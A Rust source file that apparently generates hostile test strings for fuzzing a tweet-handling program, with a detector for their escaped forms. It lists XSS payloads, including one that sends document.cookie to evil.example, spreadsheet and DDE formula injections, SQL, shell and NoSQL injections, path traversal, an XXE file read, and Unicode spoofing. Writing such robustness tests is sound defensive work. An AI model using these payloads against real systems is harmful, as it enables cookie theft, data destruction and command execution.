//! Text that breaks programs which trust it. Always delivered as text, never as an entity.

use std::sync::LazyLock;

use super::dice::Dice;

const STRINGS: [&str; 24] = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "click javascript:alert(1) now",
    "[link](javascript:alert(1)) and data:text/html;base64,PHNjcmlwdD4=",
    "=HYPERLINK(\"http://evil.example\",\"prize\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3 is still a formula in a sheet",
    "'; DROP TABLE tweets; --",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "\u{202e}txt.exe\u{202c} looks harmless",
    "\u{2066}left \u{2067}right\u{2069} isolate\u{2069} and \u{200f}mark",
    "zero\u{200b}width\u{200c}joiners\u{200d}and\u{feff}bom",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{34d}\u{36f}\u{353}\u{341}\u{32f}l\u{368}\u{30a}\u{341}\u{32e}go\u{356}\u{323}\u{30e}",
    "first line\nsecond line\r\nthird\tcolumn",
    "a,b;c|d\"e'f\\g\\\\h",
    "NULL null undefined NaN Infinity true false 0x1F 1e999",
    "&lt;b&gt;already escaped&lt;/b&gt; &amp;amp;",
    "../../../../etc/passwd%00.jpg",
    "<b>bold</b><style>*{display:none}</style><!-- ",
    "\u{fdfd} ﷽ 𒐫 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} ㋿ \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "#\u{fe0f}\u{20e3} @ # $ %00 \u{7f} \u{2028} line separator \u{2029}",
];

const MORE: [&str; 40] = [
    "\u{0}",
    "before\u{0}after",
    "\u{1}\u{2}\u{3}\u{7}\u{8}\u{b}\u{c}\u{1b}[31mred\u{1b}[0m",
    "\u{fffe}\u{ffff}\u{fffd}",
    "\u{10ffff} \u{e000} \u{1f9ff}",
    "\u{85}\u{a0}\u{1680}\u{2003}\u{3000} spaces of other kinds",
    "\u{2028}\u{2029}\r\r\n\n\u{b}\u{c}",
    "<img src=x onerror=\"alert(String.fromCharCode(88,83,83))\">",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "</title></textarea></script></style><script>alert(1)</script>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "onmouseover=alert(1) style=x:expression(alert(1))",
    "';alert(1)//\\';alert(1)//\";alert(1)//",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "＝1＋1 ＠SUM(A1) （full width）",
    "1' OR '1'='1'; --",
    "1; DELETE FROM tweets WHERE 1=1",
    "Robert'); DROP TABLE users;--",
    "$where: 1 == 1, {$ne: null}, *)(uid=*))(|(uid=*",
    "$(reboot) `reboot` | reboot & reboot ; reboot",
    "%s%s%s%n %x %p {0} {} {{}} %(name)s",
    "1e309 -0 0x7fffffff 9223372036854775808 18446744073709551616 1_000 ١٢٣",
    "AUX CON PRN NUL COM1 LPT1 ... / \\ : * ? \" < > |",
    "\u{202e}\u{202d}\u{202a}\u{202b}\u{2066}\u{2067}\u{2068} never closed",
    "\u{200f}\u{200e}\u{61c} مرحبا abc שלום 123",
    "\u{2060}\u{2061}\u{2062}\u{2063}\u{180e}\u{ad}\u{34f}\u{115f}\u{3164}\u{ffa0} nothing to see",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
    "ﬁ ß İ ı ſ K Å Σ ς ǅ ŉ ẞ fold me",
    "A\u{30a} Å Å are three ways to say one",
    "раураl.com is not paypal.com",
    "👩\u{200d}❤\u{fe0f}\u{200d}💋\u{200d}👨 🏴\u{200d}☠\u{fe0f} 👋🏿\u{200d} 🇦🇧🇨 🇺",
    "http://127.0.0.1/ http://[::1]/ http://0x7f000001/ http://evil.example@x.com/ file:///etc/hosts",
    "javascript://x.com/%0aalert(1) vbscript:msgbox(1) data:text/html,<script>alert(1)</script>",
    "{\"id\": \"1\", \"text\": \"a tweet in a tweet\"}\n{\"id\": \"2\"}",
    "# * _ ~~~ ``` --- [x](y) ![](z) <!-- markdown --> |a|b|",
];

/// Any of the texts that break programs; some are longer than a tweet.
pub fn any(dice: &mut Dice) -> String {
    match dice.below(20) {
        0 => "long".repeat(2_500),
        1 => format!("a{}", "\u{301}".repeat(9 + dice.below(200) as usize)),
        2..9 => dice.pick(&STRINGS).to_owned(),
        _ => dice.pick(&MORE).to_owned(),
    }
}

/// Whether a text, as X escapes it, has one of [`any`] in it.
pub fn is_in(text: &str) -> bool {
    const COMBINED: &str = "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";
    static ESCAPED: LazyLock<Vec<String>> = LazyLock::new(|| {
        let escaped = |text: &&str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        STRINGS.iter().chain(&MORE).map(escaped).chain(["longlonglonglong".into(), COMBINED.into()]).collect()
    });
    ESCAPED.iter().any(|known| text.contains(known.as_str()))
}

/// One hostile text of the demo; one in twelve is a single very long word.
pub fn text(dice: &mut Dice) -> String {
    match dice.below(12) {
        0 => "long".repeat(60),
        _ => (dice.pick(&STRINGS)).to_owned(),
    }
}
